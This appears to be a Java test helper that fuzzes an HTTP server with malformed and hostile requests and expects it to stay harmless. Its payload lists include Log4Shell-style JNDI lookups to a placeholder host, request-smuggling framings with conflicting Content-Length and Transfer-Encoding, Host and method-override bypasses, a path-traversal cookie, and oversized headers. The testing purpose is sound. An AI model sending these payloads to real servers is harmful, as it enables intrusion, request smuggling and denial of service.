package org.lightpath.it;

import java.util.List;
import java.util.Random;
import org.lightpath.it.HostileRequests.Hostile;
import org.lightpath.it.HostileRequests.Verdict;

/** Headers that lie, that two programs read differently, or that are too many. */
final class HostileHeaders {

  private static final String BODY = "{\"site\":\"saf\"}";

  /** Wherever one of these stands, the request can still be read. */
  private static final List<String> ODD =
      List.of(
          "X-Api-Key: lp_x_y",
          "X-Api-Key: " + "a".repeat(5_000),
          "Authorization: Basic YWRtaW46YWRtaW4=",
          "Authorization: Bearer",
          "Authorization: Bearer a b",
          "traceparent: 00-00000000000000000000000000000000-0000000000000000-00",
          "traceparent: " + "0".repeat(3_000),
          "traceparent: ${jndi:ldap://TRAP/a}",
          "User-Agent: ${jndi:ldap://TRAP/a}",
          "Range: bytes=" + "0-0,".repeat(2_000) + "0-0",
          "Range: bytes=9-1",
          "Range: bytes=99999999999999999999-",
          "If-Range: \u00ff",
          "If-None-Match: \"unclosed",
          "If-None-Match: ,,,",
          "If-Match: W/",
          "If-Modified-Since: the day before",
          "Accept: ;;",
          "Accept: */*;q=NaN",
          "Accept: text/html",
          "Accept: " + "a/b,".repeat(3_000) + "a/b",
          "Accept-Encoding: gzip;q=a",
          "Accept-Language: " + "x-".repeat(1_000),
          "Accept-Charset: \u0001",
          "Content-Type: ;",
          "Content-Type: application/json;charset=nonsense",
          "Content-Type: application/json;charset=UTF-16",
          "Content-Type: multipart/form-data",
          "Content-Type: multipart/form-data; boundary=",
          "Content-Type: multipart/form-data; boundary=" + "b".repeat(2_000),
          "Content-Type: multipart/mixed; boundary=b",
          "Content-Type: application/x-www-form-urlencoded",
          "Content-Type: application/xml",
          "Content-Encoding: gzip",
          "Content-Encoding: gzip, gzip",
          "Content-Encoding: deflate",
          "Content-Encoding: br",
          "Content-Language: \u00e4",
          "Idempotency-Key: " + "k".repeat(5_000),
          "Idempotency-Key: \"a\u0001\"",
          "X-Forwarded-For: 192.0.2.1, unknown, \u00ff",
          "Forwarded: for=\"[",
          "X-Forwarded-Host: evil.example",
          "X-HTTP-Method-Override: DELETE",
          "X-Original-URL: /admin",
          "Cookie: " + "a=b; ".repeat(3_000),
          "Cookie: JSESSIONID=../../etc/passwd; $Version=1",
          "Origin: https://evil.example",
          "Origin: null",
          "Referer: \u00ff",
          "Upgrade: h2c",
          "Upgrade: websocket",
          "Connection: Host",
          "Connection: keep-alive, Authorization",
          "Expect: nothing",
          "TE: trailers, deflate;q=0.5",
          "Trailer: Content-Length",
          "Max-Forwards: -1",
          "Payara-Tracing-TraceId: x",
          "X-Long: " + "a".repeat(33_000));

  /** With one of these nobody can say what is meant, or where the request ends. */
  private static final List<String> BROKEN =
      List.of(
          "Host: evil.example",
          "Host: localhost",
          "Host: localhost@evil.example",
          "Host: a b",
          "no colon",
          "X Y: a",
          "X-A : a",
          ": a",
          "X-A: a\u0000b",
          " folded",
          "X-A: a\rX-B: b",
          "Content-Length: -1",
          "Content-Length: +5",
          "Content-Length: 0x10",
          "Content-Length: 5, 6",
          "Content-Length: 99999999999999999999",
          "Content-Length: 5\r\nContent-Length: 6",
          "Content-Length: " + BODY.length() + "\r\nTransfer-Encoding: chunked",
          "Transfer-Encoding: xchunked",
          "Transfer-Encoding: chunked, identity",
          "Transfer-Encoding: identity, chunked",
          "Transfer-Encoding:\u000bchunked",
          "Transfer-Encoding: chunked\r\nTransfer-Encoding: gzip",
          "X-Huge: " + "a".repeat(70_000));

  private static final List<String> CHUNKED =
      List.of(
          "0\r\n\r\nGET /api/audit HTTP/1.1\r\nHost: localhost\r\n\r\n",
          "-1\r\n" + BODY + "\r\n0\r\n\r\n",
          "ffffffffffffffffff\r\n" + BODY,
          "7fffffffffffffff\r\n" + BODY,
          "80000000\r\n" + BODY,
          "zz\r\n" + BODY + "\r\n0\r\n\r\n",
          "\r\n\r\n",
          "e;" + "x".repeat(20_000) + "\r\n" + BODY + "\r\n0\r\n\r\n",
          "e\n" + BODY + "\n0\n\n",
          " e \r\n" + BODY + "\r\n0\r\n\r\n",
          "0xe\r\n" + BODY + "\r\n0\r\n\r\n",
          "e\r\n" + BODY + "XX0\r\n\r\n",
          "e\r\n" + BODY + "\r\n0\r\nContent-Length: 5\r\nX: " + "t".repeat(9_000) + "\r\n\r\n",
          "1\r\n{\r\n".repeat(3_000) + "0\r\n\r\n");

  private static final List<String> METHODS =
      List.of(
          "GETT",
          "get",
          "CONNECT",
          "PROPFIND",
          "DEBUG",
          "M".repeat(3_000),
          "OPTIONS",
          "PATCH",
          "%47ET",
          "HEAD");

  private HostileHeaders() {}

  /**
   * One of them.
   *
   * @param plain the request of nobody
   * @param known the same of an admin
   */
  static Hostile any(WireRequest plain, WireRequest known, Random random) {
    return switch (random.nextInt(10)) {
      case 0 -> {
        WireRequest many = known;
        for (int i = 0; i < 90 + random.nextInt(160); i++) {
          many = many.with("X-" + i + ": a");
        }
        yield new Hostile("many", many.whole(), Verdict.HARMLESS, false);
      }
      case 1, 2 -> broken(plain, random);
      case 3 -> chunked(plain, random);
      case 4 -> {
        WireRequest other = known.withMethod(HostileTexts.pick(random, METHODS));
        yield new Hostile("method", other.whole(), Verdict.HARMLESS, true);
      }
      default ->
          new Hostile(
              "header", known.with(HostileTexts.pick(random, ODD)).whole(), Verdict.HARMLESS, true);
    };
  }

  private static Hostile broken(WireRequest plain, Random random) {
    String line = HostileTexts.pick(random, BROKEN);
    WireRequest request = plain.withBody(plain.body().isEmpty() ? "" : BODY);
    boolean framed = line.startsWith("Content-Length") || line.startsWith("Transfer-Encoding");
    String text = framed ? request.with(line).asItIs() : request.with(line).whole();
    return new Hostile("broken", text, Verdict.HARMLESS, true);
  }

  private static Hostile chunked(WireRequest plain, Random random) {
    WireRequest request =
        plain.withBody(HostileTexts.pick(random, CHUNKED)).with("Transfer-Encoding: chunked");
    return new Hostile("chunked", request.asItIs(), Verdict.HARMLESS, true);
  }
}
